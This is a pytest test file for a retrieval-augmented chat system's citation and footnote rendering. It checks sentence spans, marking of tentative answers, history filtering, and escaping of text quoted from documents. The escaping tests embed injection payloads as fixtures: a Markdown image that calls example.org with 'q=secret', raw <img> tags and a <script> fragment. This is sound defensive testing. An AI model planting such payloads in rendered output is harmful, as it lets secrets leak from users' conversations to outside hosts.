"""Citations within the text, and their way out of it again."""

from __future__ import annotations

import re
import time
from dataclasses import replace

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from api.footnotes import UNCERTAIN, as_history, claim_spans, inert, pieces, text_of
from index.types import Span
from rag.types import Answer, Citation, Claim, Event, Finished, Message, Verified


def _citation(id: int, text: str, title: str = "Report", page: int | None = None) -> Citation:
    return Citation(id, 1, title, "report.txt", text, 0, len(text), page)


TEXT = "It has 3 rooms [a]. It is old."
ANSWER = Answer(
    "How many rooms?",
    "How many rooms?",
    "answered",
    TEXT,
    claims=(
        Claim(Span(0, 19), "supported", 1.0, (1, 2)),
        Claim(Span(20, 30), "supported", 1.0, (2,)),
    ),
    citations=(
        _citation(1, "It has\n3 rooms."),
        replace(_citation(2, "Old it is.", page=4), recognised=True),
    ),
)


def test_every_sentence_is_marked_and_every_source_quoted() -> None:
    assert text_of(ANSWER, footnotes=True) == (
        "It has 3 rooms [a]. [1][2] It is old. [2]\n\nSources:\n\n"
        "- [1] Report: “It has 3 rooms.”\n- [2] Report, page 4, recognised: “Old it is.”"
    )


@pytest.mark.parametrize("footnotes", [False, True])
def test_spans_are_those_of_the_sentences(footnotes: bool) -> None:
    text = text_of(ANSWER, footnotes=footnotes)
    spans = [span.of(text) for _, span in claim_spans(ANSWER, footnotes=footnotes)]
    assert spans == ["It has 3 rooms [a].", "It is old."]


def test_what_was_added_is_taken_off_our_own_answers_and_nothing_else() -> None:
    text = text_of(ANSWER, footnotes=True)
    said = [Message("assistant", text), Message("assistant", TEXT), Message("user", text)]
    kept = as_history((each, None) for each in said)
    assert [each.content for each in kept] == [TEXT, TEXT, text]


TENTATIVE = replace(ANSWER, status="tentative", uncertainty="the line may be about another house")


@pytest.mark.parametrize("footnotes", [False, True])
def test_a_tentative_answer_begins_with_why_it_is_uncertain(footnotes: bool) -> None:
    text = text_of(TENTATIVE, footnotes=footnotes)
    assert text.startswith(f"{UNCERTAIN} (the line may be about another house): It has 3 rooms")
    spans = [span.of(text) for _, span in claim_spans(TENTATIVE, footnotes=footnotes)]
    assert spans == ["It has 3 rooms [a].", "It is old."]


def test_a_tentative_answer_is_sent_as_one_piece() -> None:
    first, last = pieces([Finished(TENTATIVE)], footnotes=True)
    assert (first, last) == (text_of(TENTATIVE, footnotes=True), TENTATIVE)


@pytest.mark.parametrize("footnotes", [False, True])
def test_a_tentative_answer_is_left_out_of_the_history_by_its_mark(footnotes: bool) -> None:
    text = text_of(TENTATIVE, footnotes=footnotes)
    said = [Message("user", text), Message("assistant", text), Message("assistant", f"\n{text}")]
    assert as_history((each, None) for each in said) == [Message("user", text)]


def test_a_tentative_answer_is_left_out_of_the_history_by_its_status() -> None:
    said = [(Message("assistant", TEXT), status) for status in ("tentative", "answered", None)]
    assert as_history(said) == [Message("assistant", TEXT)] * 2


def test_what_a_document_says_cannot_become_a_picture_or_a_link() -> None:
    hostile = "![x](http://example.org/?q=secret) <img src=x> [link](y)"
    answer = Answer("?", "?", "unanswered", "No.", closest=(_citation(1, hostile, title=hostile),))
    shown = text_of(answer, footnotes=True)
    assert "![" not in shown
    assert "\\[link\\](y)" in shown
    assert "\\<img" in shown


PLANTED = [
    "Rooms: 3 ![x](http://example.org/?q=secret).",
    "![x][y]\n\n[y]: http://example.org/a.png",
    "See [the lease](http://example.org).",
    r"See [the lease\](http://example.org) or \\<img src=http://example.org>.",
    "<img src=http://example.org/a.png>",
    "<http://example.org>",
    "<!-- x --> </p><script>",
    "`a` [`b`](http://example.org)",
]


def _answered(text: str) -> Answer:
    claim = Claim(Span(0, len(text)), "supported", 1.0, (1,))
    cited = _citation(1, text, title=text)
    return replace(ANSWER, text=text, claims=(claim,), citations=(cited,))


def _live(text: str) -> list[str]:
    """What of a text is live where it is shown as Markdown."""
    shown = MarkdownIt("commonmark").render(text)
    return re.findall(r"<(?:img|a|script|!--)", shown)


@pytest.mark.parametrize("footnotes", [False, True])
@pytest.mark.parametrize("text", PLANTED)
def test_a_sentence_of_a_document_is_no_picture_and_no_link(text: str, footnotes: bool) -> None:
    answer = _answered(text)
    shown = text_of(answer, footnotes=footnotes)
    assert not _live(shown)
    events: list[Event] = [Verified(text, answer.claims[0], answer.citations), Finished(answer)]
    *told, last = pieces(events, footnotes=footnotes)
    assert "".join(map(str, told)) == shown
    assert last == answer
    (told_back,) = as_history([(Message("assistant", shown), None)])
    assert told_back.content.replace("\\", "") == text.replace("\\", "")


@given(st.text(alphabet="![]()<>\\`a:/ \n*\"'h.#", max_size=60), st.booleans())
@example("\\" * 9 + "](a)", True)
def test_no_text_is_live_and_spans_are_of_what_is_shown(text: str, footnotes: bool) -> None:
    answer = _answered(f"a {text}")
    shown = text_of(answer, footnotes=footnotes)
    assert not _live(shown)
    (_, span), *_ = claim_spans(answer, footnotes=footnotes)
    assert span.of(shown) == inert(f"a {text}")


@pytest.mark.parametrize(
    "text",
    ["It has 3 rooms [a].", "a < b and c > d", "5 * 3 = 15 # no", r"C:\new_folder", "see [1][2]"],
)
def test_what_is_not_live_is_shown_as_it_is(text: str) -> None:
    assert inert(text) == text


def test_escaping_is_linear() -> None:
    began = time.monotonic()
    inert("\\" * 1_000_000 + "[" * 1_000_000 + "<" * 1_000_000)
    assert time.monotonic() - began < 20
